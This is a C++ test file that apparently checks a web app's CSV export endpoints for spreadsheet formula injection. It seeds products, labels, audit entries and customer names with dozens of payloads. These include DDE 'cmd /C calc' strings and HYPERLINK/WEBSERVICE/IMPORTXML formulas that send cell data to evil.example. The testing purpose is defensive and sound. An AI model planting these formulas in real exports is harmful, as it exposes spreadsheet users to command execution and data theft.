#include "inbox/stock/csv.hpp"
#include "tests/abuse/verdict.hpp"
#include "tests/support/goods.hpp"

#include <algorithm>
#include <ctime>

using namespace tests::abuse;

namespace {

/// What spreadsheets take for a formula, or for the beginning of a cell in which one stands.
std::vector<std::string> payloads()
{
    std::vector<std::string> all;
    for (const std::string formula :
         {"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")",
          "WEBSERVICE(\"http://evil.example\")", "IMPORTXML(\"http://evil.example\",\"//a\")",
          "SUM(1)*cmd|'/c calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")"}) {
        for (const std::string sign : {"=", "+", "-", "@", "\t=", "\r=", "\n=", "\xef\xbc\x9d"})
            all.push_back(sign + formula);
    }
    for (const auto* odd : {"==1", "=-1", "\"=1+1\"", "\",=1+1", "a\",\"=1+1", "a\r\n=1+1", "a,=1+1", "'=1+1", "''=1+1",
                            " =1+1", "\xc2\xa0=1+1", "\xef\xbb\xbf=1+1", "|calc", "%0A=1+1"})
        all.emplace_back(odd);
    return all;
}

/// RFC 4180 read by other hands than ours.
std::vector<std::string> cells_of(const std::string& csv)
{
    std::vector<std::string> cells(1);
    bool quoted = false;
    for (std::size_t i = csv.starts_with("\xef\xbb\xbf") ? 3 : 0; i < csv.size(); ++i) {
        if (quoted) {
            if (csv[i] != '"') cells.back() += csv[i];
            else if (i + 1 < csv.size() && csv[i + 1] == '"') cells.back() += csv[i++];
            else quoted = false;
        } else if (csv[i] == '"') quoted = true;
        else if (csv[i] == ',' || csv[i] == '\n') cells.emplace_back();
        else if (csv[i] != '\r') cells.back() += csv[i];
    }
    return cells;
}

bool is_number(const std::string& text)
{
    return !text.empty() && text.find_first_not_of("0123456789.", text[0] == '-' ? 1 : 0) == std::string::npos;
}

bool is_live(const std::string& cell)
{
    if (is_number(cell)) return false;
    for (const std::string sign :
         {"=", "+", "-", "@", "\t", "\r", "\n", "\xef\xbc\x9d", "\xef\xbc\x8b", "\xef\xbc\x8d", "\xef\xbc\xa0"}) {
        if (cell.starts_with(sign)) return true;
    }
    return false;
}

} // namespace

TEST_CASE("No cell of any file for spreadsheets is a formula, whatever people and customers are called", "[A17]")
{
    Nemesis nemesis("A17");
    const auto all = payloads();
    Verdict verdict("A17", 50, nemesis);
    tests::Goods house;
    const auto day = [](int from_today) {
        const auto then = std::time(nullptr) + from_today * 86'400;
        char text[16];
        std::strftime(text, sizeof text, "%Y-%m-%d", std::gmtime(&then));
        return std::string(text);
    };
    const auto period = "from=" + day(-6) + "&to=" + day(1);
    const std::vector<std::string> sheets = {"/api/products.csv",
                                             "/api/history.csv",
                                             "/api/audit.csv",
                                             "/api/reports/volume.csv?by=day&" + period,
                                             "/api/reports/volume.csv?rows=conversations&" + period,
                                             "/api/reports/labels.csv?" + period,
                                             "/api/reports/orders.csv?rows=conversations&" + period};
    int number = 0;
    for (const auto& payload : all) {
        const auto tail = " #" + std::to_string(++number);
        const auto text = payload + tail;
        // Past all rules: a platform or an older version may have let anything in.
        const auto conversation = house.customer_writes(house.hoa_mai, "k" + std::to_string(number), "Alo").text;
        house.store.as_superuser([&](pqxx::work& tx) {
            const auto w = house.hoa_mai.number;
            const auto product = tests::id(), label = tests::id();
            tx.exec_params("insert into products (workspace_id, id, name, description) values ($1, $2, $3, $3)", w,
                           product, text);
            tx.exec_params("insert into variants (workspace_id, id, product_id, sku, price, on_hand) values ($1, $2, "
                           "$3, $4, 1000, 1)",
                           w, tests::id(), product, "SP" + std::to_string(number));
            tx.exec_params("insert into labels (workspace_id, id, name, colour) values ($1, $2, $3, '#112233')", w,
                           label, text);
            tx.exec_params("update conversations set label_ids = array[$2::uuid] where id = $1::uuid", conversation,
                           label);
            tx.exec_params("insert into audit (workspace_id, staff_id, action, subject, detail) "
                           "values ($1, $2, $3, $3, jsonb_build_object('text', $3::text))",
                           w, house.owner.id.text, text);
            tx.exec_params(
                "update customers set name = $2 where id = (select customer_id from conversations where id = $1)",
                conversation, text);
        });
    }
    for (const auto& sheet : sheets) {
        const auto answer = house.get(house.owner, sheet);
        INFO(sheet << ' ' << answer.status << ' ' << answer.body.substr(0, 300));
        CHECK(answer.status == 200);
        std::size_t shown = 0;
        for (const auto& cell : cells_of(answer.body)) {
            if (cell.find(" #") != std::string::npos) ++shown;
            if (is_live(cell)) verdict.got_through(sheet + ": " + cell);
            else if (cell.find(" #") != std::string::npos) verdict.refused("inert");
        }
        // Days have no names, and nobody has ordered anything here.
        const bool of_names =
            sheet.find("volume.csv?by=day") == std::string::npos && sheet.find("/orders.csv") == std::string::npos;
        CHECK(shown >= (of_names ? all.size() : 0));
    }
    verdict.note(std::to_string(all.size()) + " payloads");
    CHECK(all.size() >= 50);
    verdict.finish();
}
